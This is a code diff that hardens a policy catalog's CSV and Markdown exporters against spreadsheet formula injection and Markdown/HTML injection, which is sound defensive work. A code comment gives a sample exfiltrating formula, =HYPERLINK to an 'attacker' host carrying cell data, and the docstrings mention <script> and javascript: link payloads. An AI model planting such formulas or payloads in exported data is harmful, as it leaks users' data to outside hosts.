@@ -7,6 +7,7 @@ import io
 import re
 from collections.abc import Sequence
 
+from catalog.display import printable
 from catalog.policies.formats import ExportOptions, Format
 from catalog.policies.generate import RISK_ORDER, ToolPolicy
 from classifier.verdict import ACTION_CLASS
@@ -68,7 +69,7 @@ class CsvExporter:
         writer = csv.DictWriter(buf, fieldnames=COLUMNS, lineterminator="\n")
         writer.writeheader()
         for p in ordered(policies):
-            writer.writerow(row(p, opts))
+            writer.writerow({k: _csv_cell(v) for k, v in row(p, opts).items()})
         return buf.getvalue()
 
     def validate(self, text: str) -> list[str]:
@@ -78,8 +79,34 @@ class CsvExporter:
         return [f"row {i}: risk {r['risk']!r}" for i, r in enumerate(reader, 2) if r["risk"] not in RISK_ORDER]
 
 
+#: A spreadsheet runs a cell that starts with one of these as a formula
+#: (=HYPERLINK("http://attacker/?"&A1, ...) in a tool's name or description).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_cell(text: str) -> str:
+    """A cell a spreadsheet shows as text: a leading formula character is quoted away with
+    ``'`` (as OWASP advises), control characters are shown, not kept."""
+    text = printable(text)
+    return "'" + text if text.startswith(_FORMULA_START) else text
+
+
+_MARKDOWN_SPECIAL = str.maketrans({"|": "\\|", "<": "&lt;", ">": "&gt;", "&": "&amp;", "[": "\\[", "]": "\\]"})
+
+
 def _cell(text: str) -> str:
-    return " ".join(text.replace("|", "\\|").split())
+    """One table cell of Markdown that stays text: no raw HTML (``<script>``), no links
+    (``[x](javascript:...)``), no cell breaks, controls shown."""
+    return " ".join(printable(text).translate(_MARKDOWN_SPECIAL).split())
+
+
+def _code(text: str) -> str:
+    """A code span around ``text`` whatever backticks it holds (CommonMark: a fence longer
+    than any run inside, padded with spaces)."""
+    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
+    fence = "`" * (longest + 1)
+    inner = " ".join(printable(text).replace("|", "\\|").split())
+    return f"{fence} {inner} {fence}" if longest else f"{fence}{inner}{fence}"
 
 
 class MarkdownExporter:
@@ -103,7 +130,7 @@ class MarkdownExporter:
                 doubt = f"in doubt: policy of {p.level}" if p.level != p.risk else ""
                 extra = "; ".join(x for x in (doubt, r["rate_limit"], r["guards"], r["override"]) if x)
                 out.append(
-                    f"| {_cell(r['server'])} | `{_cell(p.tool)}` | {r['category']} | {r['class']} | "
+                    f"| {_cell(r['server'])} | {_code(p.tool)} | {r['category']} | {r['class']} | "
                     f"{r['decision']} | {_cell(extra)} | {_cell(p.rationale)} |"
                 )
             out.append("")
